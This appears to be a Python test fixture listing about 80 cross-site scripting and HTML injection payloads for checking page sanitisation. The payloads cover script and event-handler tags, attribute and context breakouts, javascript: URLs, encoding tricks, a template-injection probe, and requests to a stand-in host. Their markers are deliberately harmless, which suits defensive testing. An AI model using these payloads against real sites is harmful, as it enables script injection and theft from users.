"""Strings that run a script or send a request where a page takes them for more than text.

Each sets the attribute `data-ran` of the document, opens a dialog, or asks `ran.invalid` for
something. They cover text, attributes, data in a script element, links, style sheets and names.
"""

RAN = "document.documentElement.dataset.ran=1"
"""What a payload runs."""
HOST = "ran.invalid"
"""That no page may ask for anything."""

_ELEMENTS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    f"<script src=//{HOST}/1.js></script>",
    f"<script type=module>{RAN}</script>",
    "<script>alert(1)</script>",
    f"<script>fetch('http://{HOST}/2')</script>",
    f"<script>new Image().src='http://{HOST}/3'</script>",
    f"<img src=x onerror={RAN}>",
    f"<img src=http://{HOST}/4.png>",
    f"<img src=data:, onerror='{RAN}'>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RAN} attributename=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RAN}"><text>x</text></a></svg>',
    f"<svg><use href=//{HOST}/5.svg#x>",
    f"<svg><image href=//{HOST}/6.png>",
    f"<svg><foreignObject><body onload={RAN}>",
    f"<math><mtext><img src=x onerror={RAN}>",
    f"<body onload={RAN}>",
    f"<body onpageshow={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<iframe src=http://{HOST}/7></iframe>",
    f"<object data=http://{HOST}/8></object>",
    f"<object data='data:text/html,<script>parent.{RAN}</script>'></object>",
    f"<embed src=http://{HOST}/9>",
    f"<video onerror={RAN}><source src=x>",
    f"<audio src=x onerror={RAN}>",
    f"<video poster=http://{HOST}/10.png>",
    f"<input autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<select autofocus onfocus={RAN}>",
    f"<textarea autofocus onfocus={RAN}>",
    f"<marquee onstart={RAN}>",
    f"<link rel=stylesheet href=http://{HOST}/11.css>",
    f"<link rel=prefetch href=http://{HOST}/12>",
    f"<link rel=preconnect href=http://{HOST}>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/13'>",
    f"<base href=http://{HOST}/>",
    f"<form action=http://{HOST}/14><input type=submit autofocus></form>",
    f"<style>@import 'http://{HOST}/15.css';</style>",
    f"<style>*{{background:url(http://{HOST}/16.png)}}</style>",
    f"<div style='background:url(http://{HOST}/17.png)'>",
    f"<p style=animation-name:x onanimationstart={RAN}>",
    f"<template><script>{RAN}</script></template><script>{RAN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<x onclick={RAN} onmousemove={RAN} onpointermove={RAN}>x</x>",
)
"""Elements, for where a string is put as markup."""
_BREAKS = (
    f"</script><script>{RAN}</script>",
    f"</script ><img src=x onerror={RAN}>",
    f"</style><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</pre></details><script>{RAN}</script>",
    f"</figcaption></table><script>{RAN}</script>",
    f"<!--<script>--><script>{RAN}</script>",
    f"--><script>{RAN}</script>",
    f"]]><script>{RAN}</script>",
    f"<![CDATA[</script><script>{RAN}</script>]]>",
    f'" onload={RAN} autofocus onfocus={RAN} x="',
    f"' onerror={RAN} src=x x='",
    f'"><img src=x onerror={RAN}>',
    f"'><svg onload={RAN}>",
    f'" style="background:url(http://{HOST}/18.png)',
    f"`-{RAN}-`",
    f"${{{RAN}}}",
    f'"-{RAN}-"',
    f"'-{RAN}-'",
    f"\\u003cscript>{RAN}</script>",
    f'\\";{RAN};//',
    f'"}});{RAN};({{"',
)
"""For where a string is put into an attribute, a script, a style sheet or a comment."""
_OTHERS = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}//",
    f"data:text/html,<script>{RAN}</script>",
    f"//{HOST}/19",
    f"http://{HOST}/20",
    f"red;background:url(http://{HOST}/21.png)",
    f"expression({RAN})",
    f"{{{{ cycler.__init__.__globals__ }}}}<img src=x onerror={RAN}>",
    f"{{% raw %}}<script>{RAN}</script>",
    f"`<script>{RAN}</script>`",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"__proto__<img src=x onerror={RAN}>",
)
"""For links, style sheets, templates, and for text that is decoded twice."""
PAYLOADS = (*_ELEMENTS, *_BREAKS, *_OTHERS)
"""All of them; each is one line of printable characters, as readers of files demand."""
MARKUP = _ELEMENTS
"""Those that a page would have to be protected from if they did reach it as markup."""
